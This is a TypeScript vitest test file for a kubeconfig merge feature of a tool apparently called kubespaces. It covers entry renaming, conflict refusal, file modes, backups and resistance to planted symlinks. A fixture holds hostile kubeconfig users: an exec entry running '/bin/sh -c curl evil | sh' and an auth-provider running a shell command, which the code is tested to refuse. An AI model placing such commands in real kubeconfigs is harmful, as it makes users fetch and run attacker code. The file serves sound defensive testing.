/** A tenant's kubeconfig for `kubespaces tenant kubeconfig`: renamed, retargeted, and merged into the user's file. */
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import path from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { parse, stringify } from "yaml";
import { ProblemError } from "../../provider/util/problemError";
import {
  markerOf,
  mergedKubeconfig,
  mergeIntoFile,
  refuseCredentialCommands,
  retargeted,
  TENANT_EXTENSION,
  type KubeconfigDocument,
} from "../../provider/kubeconfig/kubeconfigMerge";
import { linesKeptInOrder, tenantKubeconfig, TOKEN, userText } from "./support/kubeconfigFixtures";
import { temporaryFolderEach } from "./support/temporaryFolder";
import { thrownBy } from "./support/thrown";

/** The marker kubespaces puts on each entry it writes for tenant atlas. */
const atlasMarker = [{ name: TENANT_EXTENSION, extension: { tenant: "atlas" } }];

/** What `--merge` adds for tenant atlas. */
const addition = retargeted(tenantKubeconfig, { contextName: "atlas" });

/** The same tenant as an earlier merge wrote it, when its API was elsewhere. */
const earlier = retargeted(tenantKubeconfig.replace("atlas.api.example.com", "old.example.com"), {
  contextName: "atlas",
});

/** The user's own kubeconfig: another cluster, and the tenant's entries from an earlier merge. */
const userKubeconfig: KubeconfigDocument = {
  apiVersion: "v1",
  kind: "Config",
  clusters: [{ name: "prod", cluster: { server: "https://prod.example.com" } }, ...earlier.clusters!],
  users: [{ name: "prod", user: { token: TOKEN } }, ...earlier.users!],
  contexts: [{ name: "prod", context: { cluster: "prod", user: "prod" } }, ...earlier.contexts!],
  "current-context": "prod",
  preferences: { colors: true },
};

describe("retargeted", () => {
  it("renames the context, gives its cluster and user names of kubespaces' own, marks all three, and keeps the credentials and the namespace", () => {
    expect(retargeted(tenantKubeconfig, { contextName: "atlas" })).toEqual({
      apiVersion: "v1",
      kind: "Config",
      clusters: [
        {
          name: "kubespaces_atlas",
          cluster: {
            server: "https://atlas.api.example.com:443",
            "certificate-authority-data": "Q0E=",
            extensions: atlasMarker,
          },
        },
      ],
      users: [
        {
          name: "kubespaces_atlas",
          user: { "client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ", extensions: atlasMarker },
        },
      ],
      contexts: [
        {
          name: "atlas",
          context: {
            cluster: "kubespaces_atlas",
            user: "kubespaces_atlas",
            namespace: "default",
            extensions: atlasMarker,
          },
        },
      ],
      "current-context": "atlas",
    });
  });

  it("names the entries after the tenant and its host namespace, whatever the context is called", () => {
    const doc = retargeted(tenantKubeconfig, {
      contextName: "mine",
      tenant: "atlas",
      hostNamespace: "kubespaces-tenant-atlas",
    });
    expect(doc.clusters?.[0].name).toBe("kubespaces_atlas_kubespaces-tenant-atlas");
    expect(doc.users?.[0].name).toBe("kubespaces_atlas_kubespaces-tenant-atlas");
    expect(doc.contexts?.[0].name).toBe("mine");
    expect(markerOf(doc.contexts?.[0], "contexts")).toEqual({
      tenant: "atlas",
      hostNamespace: "kubespaces-tenant-atlas",
    });
  });

  it("with a server, points there and still checks TLS against the original host name", () => {
    const doc = retargeted(tenantKubeconfig, { contextName: "atlas", server: "https://127.0.0.1:31443" });
    expect(doc.clusters?.[0].cluster).toEqual({
      server: "https://127.0.0.1:31443",
      "tls-server-name": "atlas.api.example.com",
      "certificate-authority-data": "Q0E=",
      extensions: atlasMarker,
    });
  });

  it("takes the current context when there are several", () => {
    const two = parse(tenantKubeconfig) as KubeconfigDocument;
    two.clusters!.push({ name: "other", cluster: { server: "https://other.example.com" } });
    two.users!.push({ name: "other", user: { token: "other" } });
    two.contexts!.unshift({ name: "other", context: { cluster: "other", user: "other" } });
    const doc = retargeted(stringify(two), { contextName: "atlas" });
    expect(doc.clusters?.[0].cluster).toEqual(expect.objectContaining({ server: "https://atlas.api.example.com:443" }));
  });

  it.each([
    ["no context", "apiVersion: v1\nkind: Config\n"],
    ["a context whose user is missing", tenantKubeconfig.replace("name: vcluster_atlas_admin", "name: someone-else")],
    [
      "a context whose cluster is missing",
      tenantKubeconfig.replace("- name: vcluster_atlas\n  cluster", "- name: elsewhere\n  cluster"),
    ],
  ])("refuses a kubeconfig with %s", (_, text) => {
    const error = thrownBy(() => retargeted(text, { contextName: "atlas" }));
    expect(error).toBeInstanceOf(ProblemError);
    expect(error.message).toBe("the tenant's kubeconfig has no complete context (cluster, user)");
  });
});

/** Tenant kubeconfigs whose user would have kubectl run a command: a vCluster never issues them. */
const commandUsers: [string, string][] = [
  [
    "exec",
    "user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil | sh']}}",
  ],
  ["auth-provider", "user: {auth-provider: {name: gcp, config: {cmd-path: /bin/sh, cmd-args: -c id}}}"],
];

describe("refuseCredentialCommands", () => {
  it.each(commandUsers)("refuses a user with %s, on the print path too (retargeted)", (field, user) => {
    const text = tenantKubeconfig.replace("user: {client-certificate-data: Q0VSVA==, client-key-data: S0VZ}", user);
    for (const action of [
      () => retargeted(text, { contextName: "atlas" }),
      () => refuseCredentialCommands(parse(text) as KubeconfigDocument),
    ]) {
      const error = thrownBy(action);
      expect(error).toBeInstanceOf(ProblemError);
      expect(error.message).toContain(
        `has user vcluster_atlas_admin get its credentials by running a command (${field})`,
      );
      expect(error.message).toContain("neither prints nor merges it");
    }
  });

  it("lets certificates and tokens through", () => {
    expect(() => refuseCredentialCommands(parse(tenantKubeconfig) as KubeconfigDocument)).not.toThrow();
  });
});

describe("mergedKubeconfig", () => {
  it("keeps the other entries and fields, and replaces in place the entries kubespaces wrote for the tenant", () => {
    const merged = mergedKubeconfig(userKubeconfig, addition);
    expect(merged.clusters).toEqual([userKubeconfig.clusters![0], addition.clusters![0]]);
    expect(merged.users).toEqual([{ name: "prod", user: { token: TOKEN } }, addition.users![0]]);
    expect(merged.contexts).toEqual([userKubeconfig.contexts![0], addition.contexts![0]]);
    expect(merged.preferences).toEqual({ colors: true });
  });

  it.each<[string, KubeconfigDocument, string]>([
    ["keeps an existing current context", userKubeconfig, "prod"],
    ["sets it when the file has none", { ...userKubeconfig, "current-context": undefined }, "atlas"],
    ["sets it when the file's is empty", { ...userKubeconfig, "current-context": "" }, "atlas"],
    ["sets it in an empty file", {}, "atlas"],
  ])("%s", (_, target, current) => {
    expect(mergedKubeconfig(target, addition)["current-context"]).toBe(current);
  });

  it("makes an empty file a whole kubeconfig", () => {
    expect(mergedKubeconfig({}, addition)).toEqual(addition);
  });

  it("refuses to take over a context of the user's named like the tenant (prod), and says how to go on", () => {
    const prod = retargeted(tenantKubeconfig, { contextName: "prod" });
    const error = thrownBy(() => mergedKubeconfig(userKubeconfig, prod));
    expect(error).toBeInstanceOf(ProblemError);
    expect(error.message).toBe(
      "the kubeconfig already has a context named prod that kubespaces did not write; it was left as it is: merge under another name with --context-name NAME, or replace it by naming it: --context-name prod",
    );
  });

  it("refuses a context kubespaces wrote for another tenant", () => {
    const beta = retargeted(tenantKubeconfig, { contextName: "atlas", tenant: "beta" });
    expect(thrownBy(() => mergedKubeconfig(userKubeconfig, beta)).message).toContain(
      "already has a context named atlas that kubespaces wrote for tenant atlas",
    );
  });

  it("replaces only the context the user named with --context-name; the user's cluster and user of that name stay for the contexts that use them", () => {
    const target: KubeconfigDocument = {
      ...userKubeconfig,
      contexts: [...userKubeconfig.contexts!, { name: "prod-admin", context: { cluster: "prod", user: "prod" } }],
    };
    const prod = retargeted(tenantKubeconfig, { contextName: "prod", tenant: "atlas" });
    const merged = mergedKubeconfig(target, prod, { contextNamedByUser: true });
    expect(merged.contexts?.map((c) => c.name)).toEqual(["prod", "atlas", "prod-admin"]);
    expect(merged.contexts?.[0]).toEqual(prod.contexts![0]);
    expect(merged.clusters?.[0]).toEqual(userKubeconfig.clusters![0]);
    expect(merged.users?.[0]).toEqual({ name: "prod", user: { token: TOKEN } });
  });

  it("never takes over a cluster or user entry of the user's, even with --context-name", () => {
    const target: KubeconfigDocument = {
      clusters: [{ name: "kubespaces_atlas", cluster: { server: "https://mine.example.com" } }],
    };
    const error = thrownBy(() => mergedKubeconfig(target, addition, { contextNamedByUser: true }));
    expect(error.message).toContain(
      "already has a cluster named kubespaces_atlas that kubespaces did not write; it was left as it is: rename or remove that cluster entry",
    );
  });
});

describe("mergeIntoFile", () => {
  const dir = temporaryFolderEach("kubespaces-kubeconfig-");
  let file: string;
  const modeOf = (f: string) => statSync(f).mode & 0o777;
  beforeEach(() => {
    file = path.join(dir(), "config");
  });

  it("writes a new file with mode 0600 and no backup", () => {
    expect(mergeIntoFile(file, addition)).toBeUndefined();
    expect(parse(readFileSync(file, "utf8"))).toEqual(addition);
    expect(modeOf(file)).toBe(0o600);
    expect(readdirSync(dir())).toEqual(["config"]);
  });

  it("backs the old file up (mode 0600), keeps its other contexts and replaces the tenant's", () => {
    const before = stringify(userKubeconfig);
    writeFileSync(file, before, { mode: 0o644 });
    const backup = mergeIntoFile(file, addition);
    expect(backup).toBe(`${file}.kubespaces-backup`);
    expect(readFileSync(backup!, "utf8")).toBe(before);
    expect(modeOf(backup!)).toBe(0o600);
    expect(modeOf(file)).toBe(0o600);
    const merged = parse(readFileSync(file, "utf8")) as KubeconfigDocument;
    expect(merged.contexts?.map((c) => c.name)).toEqual(["prod", "atlas"]);
    expect(merged.users?.find((u) => u.name === "prod")?.user).toEqual({ token: TOKEN });
    expect(merged.clusters?.find((c) => c.name === "kubespaces_atlas")?.cluster).toEqual(addition.clusters![0].cluster);
    expect(merged["current-context"]).toBe("prod");
    expect(readdirSync(dir()).sort()).toEqual(["config", "config.kubespaces-backup"]);
  });

  it("keeps every byte of the other entries: comments, quoting, 0123-like tokens", () => {
    writeFileSync(file, userText);
    mergeIntoFile(file, addition);
    const after = readFileSync(file, "utf8");
    expect(after).toContain("# Edited by hand: prod is the production cluster.\n");
    expect(after).toContain("    server: https://prod.example.com:6443 # the VIP\n    port: 0123\n");
    expect(after).toContain("    token: 0123456789\n");
    expect(linesKeptInOrder(after, userText)).toBe(true);
    expect(mergedKubeconfig(parse(userText), addition)).toEqual(parse(after));
  });

  it("replaces its own entries where they are, changing no other byte", () => {
    writeFileSync(file, userText);
    mergeIntoFile(file, earlier);
    // The user adds a cluster after kubespaces' entry: it stays after it.
    const once = readFileSync(file, "utf8").replace(
      "\ncontexts:\n",
      "\n- name: later\n  cluster: {server: 'https://later'}\ncontexts:\n",
    );
    writeFileSync(file, once);
    mergeIntoFile(file, addition);
    expect(readFileSync(file, "utf8")).toBe(
      once.replace("https://old.example.com:443", "https://atlas.api.example.com:443"),
    );
  });

  it("refuses a tenant named like the user's context, changing nothing and writing no backup", () => {
    writeFileSync(file, userText);
    const error = thrownBy(() => mergeIntoFile(file, retargeted(tenantKubeconfig, { contextName: "prod" })));
    expect(error.message).toContain(
      `kubeconfig ${file} already has a context named prod that kubespaces did not write`,
    );
    expect(readFileSync(file, "utf8")).toBe(userText);
    expect(readdirSync(dir())).toEqual(["config"]);
  });

  it("with --context-name prod, replaces that one context, leaving the user's prod cluster and user byte for byte", () => {
    writeFileSync(file, userText);
    mergeIntoFile(file, retargeted(tenantKubeconfig, { contextName: "prod", tenant: "atlas" }), {
      contextNamedByUser: true,
    });
    const after = readFileSync(file, "utf8");
    expect(after).toContain(
      "- cluster:\n    certificate-authority-data: Q0E=\n    server: https://prod.example.com:6443 # the VIP\n    port: 0123\n  name: prod\n",
    );
    expect(after).toContain("- name: prod\n  user:\n    token: 0123456789\n");
    expect((parse(after) as KubeconfigDocument).contexts).toEqual([
      expect.objectContaining({ name: "prod", context: expect.objectContaining({ cluster: "kubespaces_atlas" }) }),
    ]);
  });

  it.each(commandUsers)("refuses an addition whose user has %s, changing nothing", (field, user) => {
    writeFileSync(file, userText);
    const bad: KubeconfigDocument = {
      ...addition,
      users: [{ name: "kubespaces_atlas", user: { ...parse(`{${user}}`).user, extensions: atlasMarker } }],
    };
    expect(thrownBy(() => mergeIntoFile(file, bad)).message).toContain(`running a command (${field})`);
    expect(readFileSync(file, "utf8")).toBe(userText);
  });

  it.each([
    ["an unclosed flow map", `users:\n- name: prod\n  user: {token: ${TOKEN}\n`],
    ["a misindented key", `users:\n- name: prod\n  user:\n    token: ${TOKEN}\n   other: 1\n`],
    ["an unclosed quote", `users:\n- name: prod\n  user:\n    token: "${TOKEN}\n`],
    ["a duplicate key", `token: ${TOKEN}\ntoken: ${TOKEN}\n`],
  ])("refuses a malformed file (%s) without quoting it, and changes nothing", (_, text) => {
    writeFileSync(file, text, { mode: 0o600 });
    const error = thrownBy(() => mergeIntoFile(file, addition));
    expect(error.message).toContain(`kubeconfig ${file} is not valid YAML`);
    expect(error.message).not.toContain(TOKEN);
    expect(readFileSync(file, "utf8")).toBe(text);
    expect(existsSync(`${file}.kubespaces-backup`)).toBe(false);
  });
});

describe("mergeIntoFile, whatever the file's layout", () => {
  const dir = temporaryFolderEach("kubespaces-kubeconfig-");

  it.each([
    [
      "empty, as kubectl writes it",
      `apiVersion: v1\nclusters: null\ncontexts: null\ncurrent-context: ""\nkind: Config\npreferences: {}\nusers: null\n`,
    ],
    ["lists with no value", `# mine\nclusters:\ncontexts:\nusers:\n`],
    ["no lists at all", `# mine\npreferences: {}\n`],
    ["no final newline", `clusters:\n- name: prod\n  cluster: {server: "https://prod"}`],
    ["indented lists", `clusters:\n  - name: prod\n    cluster:\n      server: https://prod # mine\ncontexts: []\n`],
    ["flow lists", `clusters: [{name: prod, cluster: {server: "https://prod"}}]\nusers: [ ]\n`],
    [
      "JSON",
      `{"apiVersion": "v1", "clusters": [{"name": "prod", "cluster": {"server": "https://prod"}}], "users": []}\n`,
    ],
    ["comments only", `# nothing yet\n`],
    ["a YAML null", `null\n`],
    ["nothing", ``],
  ])("%s: the tenant added, the rest kept", (_, text) => {
    const file = path.join(dir(), "config");
    writeFileSync(file, text);
    mergeIntoFile(file, addition);
    const after = readFileSync(file, "utf8");
    expect(parse(after)).toEqual(mergedKubeconfig(parse(text) ?? {}, addition));
    for (const kept of text.match(/(# \w+|"name": "prod"|name: prod)/g) ?? []) expect(after).toContain(kept);
  });
});

describe("mergeIntoFile in a folder another user can write", () => {
  const dir = temporaryFolderEach("kubespaces-kubeconfig-");
  let file: string;
  let victim: string;
  const before = stringify(userKubeconfig);
  const modeOf = (f: string) => statSync(f).mode & 0o777;

  beforeEach(() => {
    file = path.join(dir(), "config");
    victim = path.join(dir(), "theirs");
    writeFileSync(file, before, { mode: 0o600 });
    writeFileSync(victim, "theirs\n");
    chmodSync(victim, 0o666);
  });

  /** The victim file is as it was: no credentials copied in, its mode not changed. */
  const expectVictimUntouched = () => {
    expect(readFileSync(victim, "utf8")).toBe("theirs\n");
    expect(modeOf(victim)).toBe(0o666);
  };

  it("replaces a symbolic link planted at the backup's name instead of writing through it", () => {
    symlinkSync(victim, `${file}.kubespaces-backup`);
    const backup = mergeIntoFile(file, addition)!;
    expectVictimUntouched();
    expect(lstatSync(backup).isSymbolicLink()).toBe(false);
    expect(readFileSync(backup, "utf8")).toBe(before);
    expect(modeOf(backup)).toBe(0o600);
  });

  it("writes through no symbolic link planted at the old predictable temporary name", () => {
    symlinkSync(victim, `${file}.${process.pid}.tmp`);
    mergeIntoFile(file, addition);
    expectVictimUntouched();
    expect(lstatSync(file).isSymbolicLink()).toBe(false);
    expect(parse(readFileSync(file, "utf8")).contexts.map((c: { name: string }) => c.name)).toContain("atlas");
  });

  it("does not make a file planted at the old predictable temporary name the kubeconfig", () => {
    writeFileSync(`${file}.${process.pid}.tmp`, "planted: true\n", { mode: 0o666 });
    mergeIntoFile(file, addition);
    expect(readFileSync(file, "utf8")).not.toContain("planted");
    expect(readFileSync(`${file}.${process.pid}.tmp`, "utf8")).toBe("planted: true\n");
  });

  it("refuses a link planted at the lock's name as a lock held, following it nowhere", () => {
    symlinkSync(victim, `${file}.lock`);
    expect(thrownBy(() => mergeIntoFile(file, addition)).message).toContain("is locked by another program");
    expectVictimUntouched();
    expect(readFileSync(file, "utf8")).toBe(before);
  });

  it("follows the user's own link to the kubeconfig, resolved once: the link stays, its target is merged and backed up", () => {
    const dotfiles = path.join(dir(), "dotfiles");
    mkdirSync(dotfiles);
    const target = path.join(dotfiles, "kubeconfig");
    writeFileSync(target, before, { mode: 0o600 });
    rmSync(file);
    symlinkSync(target, file);
    expect(mergeIntoFile(file, addition)).toBe(`${target}.kubespaces-backup`);
    expect(readlinkSync(file)).toBe(target);
    expect(parse(readFileSync(target, "utf8")).contexts.map((c: { name: string }) => c.name)).toEqual([
      "prod",
      "atlas",
    ]);
  });

  it("creates the target of a dangling link the user made, keeping the link", () => {
    const target = path.join(dir(), "later", "kubeconfig");
    rmSync(file);
    symlinkSync(target, file);
    expect(mergeIntoFile(file, addition)).toBeUndefined();
    expect(readlinkSync(file)).toBe(target);
    expect(parse(readFileSync(target, "utf8"))).toEqual(addition);
  });
});
